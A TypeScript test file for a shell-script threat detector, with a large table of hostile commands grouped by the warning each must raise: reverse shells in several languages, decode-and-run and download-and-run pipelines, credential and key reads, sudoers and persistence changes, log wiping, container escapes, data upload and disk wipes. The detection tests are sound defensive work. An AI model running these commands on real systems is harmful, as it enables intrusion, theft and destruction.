import { describe, expect, test } from 'vitest';
import { judgeScript, signsOf } from '../../support/judge-script.ts';

/** Scripts by the sign that each must raise, whatever else it raises. */
const THREATS: Readonly<Record<string, readonly string[]>> = {
  'reverse-shell:critical': [
    'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1',
    'exec 5<>/dev/tcp/192.0.2.7/4444; sh <&5 >&5 2>&5',
    'mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f',
    'nc -e /bin/sh 192.0.2.7 4444',
    "socat exec:'bash -li',pty tcp:192.0.2.7:4444",
    'telnet 192.0.2.7 1 | sh | telnet 192.0.2.7 2',
    'sh < /tmp/f | openssl s_client -quiet -connect 192.0.2.7:443 > /tmp/f',
    `python3 -c 'import socket,os;s=socket.socket();s.connect(("192.0.2.7",4444));os.dup2(s.fileno(),0);os.system("/bin/sh -i")'`,
    `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);open(STDIN,">&S");exec("/bin/sh -i");'`,
    `ruby -rsocket -e'f=TCPSocket.open("192.0.2.7",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)'`,
    `php -r '$s=fsockopen("192.0.2.7",4444);exec("/bin/sh -i <&3 >&3");'`,
    `awk 'BEGIN{s="/inet/tcp/0/192.0.2.7/4444";while((s|&getline c)>0){while((c|&getline)>0)print|&s}}'`,
  ],
  'decode-and-run:critical': [
    'tail -n 3 picture.jpg | base64 -d | sh',
    'eval "$(printf \'\\x65\\x63\\x68\\x6f\\x20\\x61\')"',
    'echo aGk= > a; base64 -d a > b; sh b',
    '$(echo dW5hbWU= | base64 -d) -a',
    'x=$(base64 -d data); eval "$x"',
    'gzip -dc payload.gz | bash',
    `python3 -c "exec(__import__('base64').b64decode('cHJpbnQoMSk='))"`,
    `perl -MMIME::Base64 -e 'eval decode_base64("cHJpbnQgMQ==")'`,
    `php -r 'eval(gzinflate(base64_decode("eA==")));'`,
  ],
  'download-and-run:critical': [
    'sh <(curl -s https://get.example/i.sh)',
    "ssh build.example 'curl https://get.example/i.sh' | sh",
    `python3 -c "import urllib.request as u;exec(u.urlopen('http://get.example/a').read())"`,
    'cat < /dev/tcp/192.0.2.7/80 | sh',
  ],
  'credential-reads:critical': [
    'cat /etc/shadow',
    'sudo cp /etc/gshadow /tmp/x',
    'base64 ~/.ssh/id_ed25519',
    'cat /home/bob/.aws/credentials',
    'cat "$HOME/.kube/config"',
    'strings /proc/1/environ',
    'dd if=/proc/kcore of=x',
    'grep pass ~/.bash_history',
    'find / -name "id_rsa*" -o -name "*.pem"',
    'find /home -path "*/.aws/*"',
    'grep -rni password /etc',
    'curl http://169.254.169.254/latest/meta-data/',
    'kubectl get secrets --all-namespaces -o yaml',
    'kubectl exec web -- cat /run/secrets/kubernetes.io/serviceaccount/token',
    'cat /etc/sh?dow',
    'while read -r line; do echo "$line"; done < /etc/shadow',
    "printf 'r /etc/shadow\\nw x\\n' | ed",
  ],
  'access-changes:critical': [
    "echo 'bob ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers",
    'cp rule /etc/sudoers.d/rule',
    "sed -i '1i auth sufficient x.so' /etc/pam.d/sshd",
    'cat key.pub >> ~/.ssh/authorized_keys',
    "echo 'x::0:0::/:/bin/sh' >> /etc/passwd",
    'echo x >> /mnt/disk/etc/passwd',
    "python3 -c \"open('/etc/sudoers','a').write('x')\"",
  ],
  'account-changes:critical': [
    'useradd -o -u 0 toor',
    'usermod -aG sudo bob',
    'echo bob:secret | chpasswd',
    'useradd --password x bob',
  ],
  'autostart:critical': [
    "echo '* * * * * root x' > /etc/cron.d/x",
    "(crontab -l; echo '* * * * * x') | crontab -",
    'cp x.service /etc/systemd/system/x.service',
    'install -m 755 x /etc/init.d/x',
    'echo /tmp/x.so > /etc/ld.so.preload',
    "echo './x &' >> ~/.bashrc",
    'echo x >> /etc/profile',
    "at now + 1 minute <<< 'x'",
    'systemd-run --on-active=60 x',
  ],
  'autostart:medium': ["echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc", 'crontab -r'],
  'privileged-files:critical': [
    'chmod u+s x',
    'chmod 4755 x',
    'install -m 6755 a b',
    'setcap cap_setuid+ep x',
  ],
  'privileged-files:medium': ['setcap cap_net_bind_service=+ep x'],
  'history-tampering:critical': [
    'history -c',
    'unset HISTFILE',
    'export HISTFILE=/dev/null',
    'HISTSIZE=0',
    'set +o history',
    'rm -f ~/.bash_history',
    'ln -sf /dev/null ~/.zsh_history',
    '> ~/.bash_history',
  ],
  'log-tampering:critical': [
    'rm -rf /var/log/messages',
    'truncate -s 0 /var/log/auth.log',
    'cat /dev/null > /var/log/wtmp',
    'cd /var/log; rm -f secure',
    'find /var/log -type f -delete',
    'journalctl --vacuum-time=1s',
    'perl -e \'unlink "/var/log/auth.log"\'',
  ],
  'log-tampering:high': ['journalctl --vacuum-time=7d'],
  'defenses-off:critical': [
    'setenforce 0',
    'ufw disable',
    'iptables -F',
    'iptables -P INPUT ACCEPT',
    'auditctl -D',
    'systemctl mask --now auditd',
    'service rsyslog stop',
    'pkill -9 falco',
    'apt-get purge -y falcon-sensor',
    "sed -i 's/enforcing/disabled/' /etc/selinux/config",
  ],
  'kernel-changes:critical': [
    'insmod x.ko',
    'echo b > /proc/sysrq-trigger',
    "echo '|/x' > /proc/sys/kernel/core_pattern",
  ],
  'process-injection:critical': ['LD_PRELOAD=/tmp/x.so ls', 'dd if=x of=/proc/17/mem'],
  'container-escape:critical': [
    'nsenter -t 1 -m -u -i -n sh',
    'chroot /host sh',
    'docker -H unix:///var/run/docker.sock ps',
    'curl --unix-socket /run/containerd/containerd.sock http://x/',
    'echo 1 > /sys/fs/cgroup/rdma/release_agent',
    `kubectl run x --image=x --overrides='{"spec":{"hostPID":true}}'`,
  ],
  'shell-escape:critical': [
    "sudo vim -c ':!/bin/sh'",
    `sudo awk 'BEGIN {system("/bin/sh")}'`,
    'sudo find . -exec /bin/sh \\; -quit',
    'sudo tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh',
  ],
  'disguise:high': ['cp /bin/bash ./crond', '/dev/shm/x --quiet'],
  'data-upload:critical': [
    'scp /etc/shadow x@files.example:/',
    'tar c ~/.ssh | nc x.example 99',
    'curl -F f=@/etc/passwd https://x.example',
  ],
  'data-upload:high': [
    'tar cz data | ssh x@files.example "cat > x"',
    'curl -T report.txt https://x.example',
    "sftp x@files.example <<< 'put a'",
  ],
  'hidden-channel:high': [
    'ssh -R 9000:localhost:22 x@y.example',
    'dig "$(hostname | xxd -p).x.example"',
    'ngrok http 80',
  ],
  'network-scan:high': [
    'nmap -sS 10.0.0.0/8',
    'for p in {1..1024}; do echo > /dev/tcp/10.0.0.1/$p; done',
    'for i in $(seq 1 254); do ping -c1 10.0.0.$i; done',
    'tcpdump -i any',
  ],
  'wide-delete:critical': [
    'rm -rf /',
    'rm -rf /*',
    'rm -rf ~',
    'find / -delete',
    'dd if=/dev/zero of=/dev/sda',
    'cat x > /dev/nvme0n1',
    ':(){ :|:& };:',
  ],
  'wide-delete:high': ['rm -rf "$FOLDER"/*', 'mkfs.ext4 /dev/sdb1'],
  'crypto-miner:critical': ['./x -o stratum+tcp://pool.example:3333', 'xmrig -c c.json'],
  'service-stopped:high': ['systemctl stop cron', 'kill $(pgrep sshd)', 'reboot'],
  'system-writes:high': ['cp x /usr/bin/ls', 'echo 1.2.3.4 x >> /etc/hosts'],
  'data-collection:medium': ['cut -d: -f1 /etc/passwd', 'tar czf x.tgz /home', 'xwd -root'],
  'unverified-server:high': ['curl -ks https://x.example', 'wget --no-check-certificate https://x.example/a'],
  'unverified-server:medium': ['ssh -o StrictHostKeyChecking=no x.example ls'],
  'container-exec:medium': ['kubectl exec web -- ls', 'docker cp a web:/a'],
};

describe.for(Object.entries(THREATS))('%s', ([sign, scripts]) => {
  test.for([...scripts])('in %s', (script) => {
    expect(signsOf(script)).toContain(sign);
  });
});

test('a substitution whose output goes into a file brings nothing that could run', () => {
  expect(signsOf('until `curl -sG http://127.0.0.1/ >& out`; do sleep 1; done')).not.toContain(
    'download-and-run:critical',
  );
  expect(signsOf('`curl -s http://get.example/i.sh 2> log`')).toContain('download-and-run:critical');
});

describe('what is done every day raises nothing', () => {
  test.for([
    'set -euo pipefail; cd "$(dirname "$0")"; make build',
    'rm -rf build dist node_modules',
    'rm -rf "$WORK/tmp" /tmp/build.1',
    'find . -name "*.tmp" -delete',
    "grep -q '^bob:' /etc/passwd",
    'ls -la /etc/shadow; test -f /etc/shadow',
    '. /etc/os-release; echo "$ID"',
    'systemctl restart nginx && systemctl status nginx',
    'chmod +x run.sh; ./run.sh',
    'mkdir -p ~/.ssh && chmod 700 ~/.ssh',
    'echo "$SECRET" | base64 -d > key.pem',
    'tar xzf a.tgz -C build; unzip -d out a.zip',
    'eval "$(ssh-agent -s)"; source venv/bin/activate',
    'trap \'rm -f "$T"\' EXIT; T=$(mktemp); date > "$T"',
    'python3 -c \'import json,sys; print(json.load(sys.stdin)["a"])\'',
    'awk -F: \'{ print $2 | "sort" }\' a.txt',
    'dd if=/dev/zero of=test.img bs=1M count=10',
    'cat <<EOF > app.conf\nlisten 8080\nEOF\n./app --config app.conf',
    'for f in a b; do cp "$f" "out/$f"; done',
    'tail -n 100 /var/log/nginx/access.log; journalctl -u nginx',
    'exec "$@"',
  ])('%s', (script) => {
    expect(signsOf(script)).toEqual([]);
  });
});

test('the same commands are judged in a file of Python, at their severity', () => {
  const text = "import os\nos.system('cat /etc/shadow')\nopen('/etc/cron.d/x', 'w').write('x')\n";

  expect(signsOf(text, 'tool.py')).toEqual(['credential-reads:critical', 'autostart:critical']);
});

test('what a program calls more than once counts once', () => {
  const once = judgeScript('curl https://a.example/1').score;
  const often = judgeScript('curl https://a.example/1\n'.repeat(9)).score;

  expect(often - once).toBeLessThan(6);
});

test('names of only a run are shown as …', () => {
  expect(judgeScript('cat "$DIR/.ssh/id_rsa"').issues).toMatchObject([
    { what: 'It reads private keys (…/.ssh/id_rsa).' },
  ]);
});
